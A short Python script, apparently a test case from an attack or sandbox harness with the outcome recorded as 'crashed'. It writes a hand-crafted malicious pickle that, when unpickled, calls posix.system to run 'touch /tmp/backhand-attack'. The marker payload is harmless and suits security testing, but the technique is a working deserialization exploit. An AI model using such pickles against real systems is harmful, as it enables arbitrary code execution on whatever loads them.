# Write a pickle that would run a program.
# outcome: crashed

import os
os.write(3, b"cposix\nsystem\n(S'touch /tmp/backhand-attack'\ntR.")
os._exit(0)
